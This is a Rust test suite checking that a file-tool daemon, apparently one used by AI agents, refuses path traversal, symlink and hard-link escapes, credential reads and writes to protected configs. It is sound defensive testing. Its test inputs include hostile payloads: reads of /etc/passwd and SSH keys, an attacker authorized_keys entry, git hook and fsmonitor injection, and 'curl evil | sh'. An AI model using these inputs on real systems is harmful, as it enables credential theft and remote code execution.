//! The path attack suite: each refusal is paired with a positive control (the allowed neighbour
//! succeeds) and the canary outside the roots is asserted unchanged. The tests run as root, so
//! nothing here is stopped by file permissions: every refusal comes from the resolver.
//! In process, but for the credential tests (the denylist is the daemon's HOME, the fixture's
//! only in a process of its own), /proc/self/cwd (the daemon's folder, the root likewise), and
//! what must not block or loop (in process a hung daemon hangs the test instead of failing it).

use super::common::{Client, Era, Fixture};
use serde_json::{Value, json};
use std::os::unix::fs::symlink;

/// A fixture with `root/a.txt` and a client of the usual tools-fs config's daemon, in process.
async fn setup() -> (Fixture, Client) {
    let fx = Fixture::new();
    fx.write("a.txt", "alpha\n");
    let c = Client::in_process(&fx, &fx.fs_config(), Era::Legacy).await;
    (fx, c)
}

/// [`setup`] with `hands serve` as a process of its own.
async fn setup_bin() -> (Fixture, Client) {
    let fx = Fixture::new();
    fx.write("a.txt", "alpha\n");
    let c = Client::start(&fx, &fx.fs_config()).await;
    (fx, c)
}

/// `tool(args)` is refused with a message containing `why`; `control` then succeeds; the canary
/// is unchanged.
async fn refused(
    fx: &Fixture,
    c: &Client,
    tool: &str,
    args: Value,
    why: &str,
    control: (&str, Value),
) {
    let e = c.err(tool, args.clone()).await;
    assert!(
        e.to_lowercase().contains(&why.to_lowercase()),
        "{tool} {args}: expected `{why}` in: {e}"
    );
    c.ok(control.0, control.1).await;
    fx.assert_canary();
}

fn read_a() -> (&'static str, Value) {
    ("read", json!({"path": "a.txt"}))
}

#[tokio::test]
async fn dotdot_forms_are_refused() {
    let (fx, c) = setup().await;
    for p in
        ["../outside/canary.txt", "sub/../../outside/canary.txt", "./../outside/canary.txt", ".."]
    {
        refused(&fx, &c, "read", json!({"path": p}), "`..`", read_a()).await;
    }
    let abs = format!("{}/../outside/canary.txt", fx.root.display());
    refused(&fx, &c, "read", json!({"path": abs}), "`..`", read_a()).await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "../outside/canary.txt", "content": "x"}),
        "`..`",
        ("write", json!({"path": "inside.txt", "content": "x"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "edit",
        json!({"path": "../outside/canary.txt", "old_string": "canary", "new_string": "x"}),
        "`..`",
        ("edit", json!({"path": "inside.txt", "old_string": "x", "new_string": "y"})),
    )
    .await;
    refused(&fx, &c, "list_dir", json!({"path": "../outside"}), "`..`", ("list_dir", json!({})))
        .await;
    refused(
        &fx,
        &c,
        "glob",
        json!({"pattern": "*", "path": "../outside"}),
        "`..`",
        ("glob", json!({"pattern": "*"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "grep",
        json!({"pattern": "canary", "path": "../outside"}),
        "`..`",
        ("grep", json!({"pattern": "alpha"})),
    )
    .await;
    c.stop().await;
}

#[tokio::test]
async fn absolute_paths_outside_every_root_are_refused() {
    let (fx, c) = setup().await;
    let canary = fx.outside.join("canary.txt");
    refused(&fx, &c, "read", json!({"path": canary}), "outside every root", read_a()).await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": fx.outside.join("new.txt"), "content": "x"}),
        "outside every root",
        ("write", json!({"path": fx.root.join("new.txt"), "content": "x"})),
    )
    .await;
    refused(&fx, &c, "read", json!({"path": "/etc/passwd"}), "outside every root", read_a()).await;
    refused(
        &fx,
        &c,
        "list_dir",
        json!({"path": "/"}),
        "outside every root",
        ("list_dir", json!({"path": fx.root})),
    )
    .await;
    // The kernel's view of the root through /proc is still not under the root by name.
    let via_proc = format!("/proc/self/root{}/a.txt", fx.root.display());
    refused(&fx, &c, "read", json!({"path": via_proc}), "outside every root", read_a()).await;
    c.stop().await;
}

#[tokio::test]
async fn sibling_prefix_is_not_inside_the_root() {
    let (fx, c) = setup().await;
    let sibling = std::path::PathBuf::from(format!("{}-secrets", fx.root.display()));
    std::fs::create_dir_all(&sibling).unwrap();
    std::fs::write(sibling.join("key.txt"), "sibling secret\n").unwrap();
    refused(
        &fx,
        &c,
        "read",
        json!({"path": sibling.join("key.txt")}),
        "outside every root",
        read_a(),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": sibling.join("key.txt"), "content": "pwned"}),
        "outside every root",
        read_a(),
    )
    .await;
    assert_eq!(std::fs::read_to_string(sibling.join("key.txt")).unwrap(), "sibling secret\n");
    c.stop().await;
}

#[tokio::test]
async fn nul_bytes_are_refused() {
    let (fx, c) = setup().await;
    refused(&fx, &c, "read", json!({"path": "a.txt\u{0}"}), "NUL", read_a()).await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "b\u{0}.txt", "content": "x"}),
        "NUL",
        ("write", json!({"path": "b.txt", "content": "x"})),
    )
    .await;
    c.stop().await;
}

#[tokio::test]
async fn symlink_to_a_file_outside_is_refused() {
    let (fx, c) = setup().await;
    symlink(fx.outside.join("canary.txt"), fx.root.join("link")).unwrap();
    symlink("a.txt", fx.root.join("inlink")).unwrap();
    refused(
        &fx,
        &c,
        "read",
        json!({"path": "link"}),
        "leaves root",
        ("read", json!({"path": "inlink"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "link", "content": "pwned"}),
        "leaves root",
        ("write", json!({"path": "inlink", "content": "via link\n"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "edit",
        json!({"path": "link", "old_string": "canary", "new_string": "x"}),
        "leaves root",
        read_a(),
    )
    .await;
    // The in-root link wrote its target and stayed a link.
    assert_eq!(std::fs::read_to_string(fx.root.join("a.txt")).unwrap(), "via link\n");
    assert!(std::fs::symlink_metadata(fx.root.join("inlink")).unwrap().file_type().is_symlink());
    c.stop().await;
}

#[tokio::test]
async fn symlink_to_a_folder_outside_is_refused() {
    let (fx, c) = setup().await;
    symlink(&fx.outside, fx.root.join("dirlink")).unwrap();
    std::fs::create_dir(fx.root.join("real")).unwrap();
    std::fs::write(fx.root.join("real/in.txt"), "in\n").unwrap();
    symlink("real", fx.root.join("inlink")).unwrap();
    refused(
        &fx,
        &c,
        "read",
        json!({"path": "dirlink/canary.txt"}),
        "leaves root",
        ("read", json!({"path": "inlink/in.txt"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "dirlink/new.txt", "content": "x"}),
        "leaves root",
        ("write", json!({"path": "inlink/new.txt", "content": "x"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "dirlink/deeper/new.txt", "content": "x"}),
        "leaves root",
        read_a(),
    )
    .await;
    refused(
        &fx,
        &c,
        "list_dir",
        json!({"path": "dirlink"}),
        "leaves root",
        ("list_dir", json!({"path": "inlink"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "grep",
        json!({"pattern": "canary", "path": "dirlink"}),
        "leaves root",
        ("grep", json!({"pattern": "in", "path": "inlink"})),
    )
    .await;
    c.stop().await;
}

#[tokio::test]
async fn symlink_chain_leaving_the_root_is_refused() {
    let (fx, c) = setup().await;
    symlink("l2", fx.root.join("l1")).unwrap();
    symlink("l3", fx.root.join("l2")).unwrap();
    symlink("../outside/canary.txt", fx.root.join("l3")).unwrap();
    symlink("c2", fx.root.join("c1")).unwrap();
    symlink("a.txt", fx.root.join("c2")).unwrap();
    refused(&fx, &c, "read", json!({"path": "l1"}), "leaves root", ("read", json!({"path": "c1"})))
        .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "l1", "content": "pwned"}),
        "leaves root",
        ("read", json!({"path": "c1"})),
    )
    .await;
    c.stop().await;
}

#[tokio::test]
async fn dangling_symlink_write_is_refused() {
    let (fx, c) = setup().await;
    symlink(fx.outside.join("created.txt"), fx.root.join("dangle")).unwrap();
    symlink("missing-inside.txt", fx.root.join("dangle-in")).unwrap();
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "dangle", "content": "x"}),
        "leaves root",
        ("write", json!({"path": "fresh.txt", "content": "x"})),
    )
    .await;
    refused(&fx, &c, "write", json!({"path": "dangle/sub.txt", "content": "x"}), "", read_a())
        .await;
    refused(&fx, &c, "write", json!({"path": "dangle-in", "content": "x"}), "dangling", read_a())
        .await;
    assert!(!fx.outside.join("created.txt").exists());
    c.stop().await;
}

#[tokio::test]
async fn proc_magic_links_are_refused() {
    let (fx, c) = setup_bin().await;
    symlink("/proc/self/root", fx.root.join("procroot")).unwrap();
    symlink("/proc/self/cwd", fx.root.join("proccwd")).unwrap();
    refused(&fx, &c, "read", json!({"path": "procroot/etc/passwd"}), "leaves root", read_a()).await;
    refused(&fx, &c, "read", json!({"path": "proccwd/a.txt"}), "leaves root", read_a()).await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": format!("procroot{}/pwn.txt", fx.outside.display()), "content": "x"}),
        "leaves root",
        read_a(),
    )
    .await;
    c.stop().await;
}

#[tokio::test]
async fn fifo_is_refused_without_blocking() {
    let (fx, c) = setup_bin().await;
    let fifo = fx.root.join("fifo");
    rustix::fs::mkfifoat(rustix::fs::CWD, &fifo, rustix::fs::Mode::from_raw_mode(0o644)).unwrap();
    let r = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        c.err("read", json!({"path": "fifo"})),
    )
    .await
    .expect("reading a FIFO must not block");
    assert!(r.contains("FIFO"), "{r}");
    let w = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        c.err("write", json!({"path": "fifo", "content": "x"})),
    )
    .await
    .expect("writing a FIFO must not block");
    assert!(w.contains("FIFO"), "{w}");
    let g = tokio::time::timeout(
        std::time::Duration::from_secs(10),
        c.ok("grep", json!({"pattern": "alpha"})),
    )
    .await
    .expect("grep must skip a FIFO without blocking");
    assert_eq!(g["total_matches"], 1);
    c.ok(read_a().0, read_a().1).await;
    fx.assert_canary();
    c.stop().await;
}

#[tokio::test]
async fn credential_paths_under_a_root_holding_a_fake_home_are_refused() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.home.join(".ssh")).unwrap();
    std::fs::write(fx.home.join(".ssh/id_rsa"), "PRIVATE KEY\n").unwrap();
    std::fs::create_dir_all(fx.home.join(".aws")).unwrap();
    std::fs::write(fx.home.join(".aws/credentials"), "aws secret\n").unwrap();
    std::fs::write(fx.home.join("notes.txt"), "fine\n").unwrap();
    let cfg = fx.config(
        "[[builtins]]\nid = \"tools-fs\"\ngrants = [\"filesystem\"]\nfilesystem = [{ path = \"{home}\", write = true, allow_home = true }]\n",
    );
    let c = Client::start(&fx, &cfg).await;
    let control = ("read", json!({"path": "notes.txt"}));
    refused(&fx, &c, "read", json!({"path": ".ssh/id_rsa"}), "denied", control.clone()).await;
    refused(
        &fx,
        &c,
        "read",
        json!({"path": fx.home.join(".aws/credentials")}),
        "denied",
        control.clone(),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": ".ssh/authorized_keys", "content": "ssh-ed25519 AAAA attacker"}),
        "denied",
        control.clone(),
    )
    .await;
    refused(&fx, &c, "list_dir", json!({"path": ".ssh"}), "denied", ("list_dir", json!({}))).await;
    let g = c
        .ok("grep", json!({"pattern": "PRIVATE|aws secret", "hidden": true, "ignored": true}))
        .await;
    assert_eq!(g["total_matches"], 0, "{g}");
    let g = c.ok("glob", json!({"pattern": "**/*", "hidden": true})).await;
    assert!(!g.to_string().contains("id_rsa"), "{g}");
    assert!(!fx.home.join(".ssh/authorized_keys").exists());
    assert_eq!(std::fs::read_to_string(fx.home.join(".ssh/id_rsa")).unwrap(), "PRIVATE KEY\n");
    c.stop().await;
}

#[tokio::test]
async fn hard_link_to_a_denied_file_is_refused_by_identity() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.home.join(".ssh")).unwrap();
    std::fs::write(fx.home.join(".ssh/id_ed25519"), "PRIVATE KEY\n").unwrap();
    std::fs::hard_link(fx.home.join(".ssh/id_ed25519"), fx.root.join("innocent.txt")).unwrap();
    fx.write("a.txt", "alpha\n");
    let c = Client::start(&fx, &fx.fs_config()).await;
    refused(&fx, &c, "read", json!({"path": "innocent.txt"}), "denied", read_a()).await;
    refused(
        &fx,
        &c,
        "grep",
        json!({"pattern": "PRIVATE", "path": "innocent.txt"}),
        "denied",
        read_a(),
    )
    .await;
    let g = c.ok("grep", json!({"pattern": "PRIVATE"})).await;
    assert_eq!(g["total_matches"], 0, "{g}");
    c.stop().await;
}

#[tokio::test]
async fn runner_denied_path_inside_a_root_is_refused() {
    let fx = Fixture::new();
    fx.write("private/plan.txt", "do not read\n");
    fx.write("public/plan.txt", "read me\n");
    let cfg = fx.config(
        "[daemon]\nstate_dir = \"{state}\"\n\n[sandbox]\ndeny = [\"{root}/private\"]\n\n[[builtins]]\nid = \"tools-fs\"\ngrants = [\"filesystem\"]\nfilesystem = [{ path = \"{root}\", write = true }]\n",
    );
    let c = Client::in_process(&fx, &cfg, Era::Legacy).await;
    let control = ("read", json!({"path": "public/plan.txt"}));
    refused(&fx, &c, "read", json!({"path": "private/plan.txt"}), "sandbox.deny", control.clone())
        .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "private/new.txt", "content": "x"}),
        "denied",
        control.clone(),
    )
    .await;
    let g = c.ok("grep", json!({"pattern": "plan|read"})).await;
    assert!(!g.to_string().contains("do not read"), "{g}");
    c.stop().await;
}

#[tokio::test]
async fn secret_files_are_refused_and_templates_are_not() {
    let (fx, c) = setup().await;
    fx.write(".env", "API_KEY=hunter2\n");
    fx.write("conf/server.pem", "-----BEGIN PRIVATE KEY-----\n");
    fx.write(".env.example", "API_KEY=\n");
    let control = ("read", json!({"path": ".env.example"}));
    refused(&fx, &c, "read", json!({"path": ".env"}), "secret", control.clone()).await;
    refused(&fx, &c, "read", json!({"path": "conf/server.pem"}), "secret", control.clone()).await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": ".env.local", "content": "X=1"}),
        "secret",
        control.clone(),
    )
    .await;
    refused(
        &fx,
        &c,
        "edit",
        json!({"path": ".env", "old_string": "hunter2", "new_string": "x"}),
        "secret",
        control.clone(),
    )
    .await;
    let g = c.ok("grep", json!({"pattern": "hunter2|PRIVATE", "hidden": true})).await;
    assert_eq!(g["total_matches"], 0, "{g}");
    assert_eq!(std::fs::read_to_string(fx.root.join(".env")).unwrap(), "API_KEY=hunter2\n");
    c.stop().await;
}

#[tokio::test]
async fn protected_paths_are_read_only() {
    let (fx, c) = setup().await;
    fx.write(".git/config", "[core]\n");
    fx.write(".git/hooks/README", "hooks\n");
    fx.write("src/hooks/ok.txt", "fine\n");
    let control = ("write", json!({"path": "src/hooks/pre-commit", "content": "#!/bin/sh\n"}));
    refused(
        &fx,
        &c,
        "write",
        json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ntouch /tmp/pwn\n"}),
        "protected",
        control.clone(),
    )
    .await;
    refused(&fx, &c, "edit", json!({"path": ".git/config", "old_string": "[core]", "new_string": "[core]\nfsmonitor = evil"}), "protected", control.clone()).await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": ".vscode/settings.json", "content": "{}"}),
        "protected",
        control.clone(),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": ".envrc", "content": "curl evil | sh"}),
        "protected",
        control.clone(),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "sub/.mcp.json", "content": "{}"}),
        "protected",
        control.clone(),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "sub/.lfsconfig", "content": "[lfs]\n\turl = https://example.org/x\n"}),
        "protected",
        control.clone(),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": ".claude/settings.json", "content": "{}"}),
        "protected",
        control.clone(),
    )
    .await;
    // Reading a protected path is fine.
    c.ok("read", json!({"path": ".git/config"})).await;
    assert!(!fx.root.join(".git/hooks/pre-commit").exists());
    assert!(!fx.root.join(".vscode").exists());
    assert_eq!(std::fs::read_to_string(fx.root.join(".git/config")).unwrap(), "[core]\n");
    c.stop().await;
}

#[tokio::test]
async fn protected_path_through_an_in_root_symlink_is_read_only() {
    let (fx, c) = setup().await;
    fx.write(".git/hooks/README", "hooks\n");
    symlink(".git/hooks", fx.root.join("h")).unwrap();
    symlink(".git", fx.root.join("g")).unwrap();
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "h/pre-commit", "content": "#!/bin/sh\n"}),
        "protected",
        ("write", json!({"path": "x.txt", "content": "x"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "g/hooks/post-checkout", "content": "#!/bin/sh\n"}),
        "protected",
        read_a(),
    )
    .await;
    assert!(!fx.root.join(".git/hooks/pre-commit").exists());
    assert!(!fx.root.join(".git/hooks/post-checkout").exists());
    c.stop().await;
}

#[tokio::test]
async fn read_only_root_refuses_writes_naming_the_root() {
    let fx = Fixture::new();
    fx.write("a.txt", "alpha\n");
    fx.write("ro/doc.txt", "doc\n");
    let cfg = fx.config(
        "[daemon]\nstate_dir = \"{state}\"\n\n[[builtins]]\nid = \"tools-fs\"\ngrants = [\"filesystem\"]\nfilesystem = [{ path = \"{root}\", write = true }, { path = \"{root}/ro\" }]\n",
    );
    let c = Client::in_process(&fx, &cfg, Era::Legacy).await;
    let ro = fx.root.join("ro");
    let e = c.err("write", json!({"path": "ro/new.txt", "content": "x"})).await;
    assert!(e.contains("read-only root") && e.contains(ro.to_str().unwrap()), "{e}");
    let e = c
        .err("edit", json!({"path": ro.join("doc.txt"), "old_string": "doc", "new_string": "x"}))
        .await;
    assert!(e.contains("read-only root"), "{e}");
    // Reading it and writing beside it work.
    c.ok("read", json!({"path": ro.join("doc.txt")})).await;
    c.ok("write", json!({"path": "new.txt", "content": "x"})).await;
    // A link inside the writable root into the read-only one does not make it writable.
    symlink("ro", fx.root.join("rolink")).unwrap();
    let e = c.err("write", json!({"path": "rolink/new.txt", "content": "x"})).await;
    assert!(e.contains("read-only root"), "{e}");
    assert!(!ro.join("new.txt").exists());
    assert_eq!(std::fs::read_to_string(ro.join("doc.txt")).unwrap(), "doc\n");
    fx.assert_canary();
    c.stop().await;
}

#[tokio::test]
async fn hard_linked_target_is_never_written() {
    let (fx, c) = setup().await;
    std::fs::hard_link(fx.outside.join("canary.txt"), fx.root.join("hl.txt")).unwrap();
    refused(
        &fx,
        &c,
        "write",
        json!({"path": "hl.txt", "content": "pwned"}),
        "hard links",
        ("write", json!({"path": "a.txt", "content": "beta\n"})),
    )
    .await;
    refused(
        &fx,
        &c,
        "edit",
        json!({"path": "hl.txt", "old_string": "canary", "new_string": "pwned"}),
        "hard links",
        read_a(),
    )
    .await;
    c.stop().await;
}

#[tokio::test]
async fn glob_and_grep_through_a_link_to_slash_stay_inside() {
    let (fx, c) = setup().await;
    symlink("/", fx.root.join("slash")).unwrap();
    symlink(&fx.outside, fx.root.join("out")).unwrap();
    let g = c.ok("glob", json!({"pattern": "**/*", "hidden": true, "ignored": true})).await;
    let s = g.to_string();
    assert!(s.contains("a.txt"), "{s}");
    assert!(!s.contains("passwd") && !s.contains("canary"), "{s}");
    let g = c.ok("grep", json!({"pattern": "canary|root:", "hidden": true, "ignored": true})).await;
    assert_eq!(g["total_matches"], 0, "{g}");
    let e = c.err("glob", json!({"pattern": "*", "path": "slash/etc"})).await;
    assert!(e.contains("leaves root"), "{e}");
    c.ok("grep", json!({"pattern": "alpha"})).await;
    fx.assert_canary();
    c.stop().await;
}

#[tokio::test]
async fn link_loops_terminate_and_are_refused() {
    let (fx, c) = setup_bin().await;
    symlink("loop2", fx.root.join("loop1")).unwrap();
    symlink("loop1", fx.root.join("loop2")).unwrap();
    std::fs::create_dir(fx.root.join("d")).unwrap();
    symlink("..", fx.root.join("d/up")).unwrap();
    symlink(".", fx.root.join("d/self")).unwrap();
    refused(&fx, &c, "read", json!({"path": "loop1"}), "loop", read_a()).await;
    refused(&fx, &c, "write", json!({"path": "loop1", "content": "x"}), "", read_a()).await;
    let g = tokio::time::timeout(
        std::time::Duration::from_secs(20),
        c.ok("glob", json!({"pattern": "**/*", "hidden": true, "ignored": true})),
    )
    .await
    .expect("glob over link loops terminates");
    assert!(g.to_string().contains("a.txt"));
    let n = tokio::time::timeout(
        std::time::Duration::from_secs(20),
        c.ok("grep", json!({"pattern": "alpha", "hidden": true, "ignored": true})),
    )
    .await
    .expect("grep over link loops terminates");
    assert_eq!(n["total_matches"], 1, "{n}");
    c.stop().await;
}
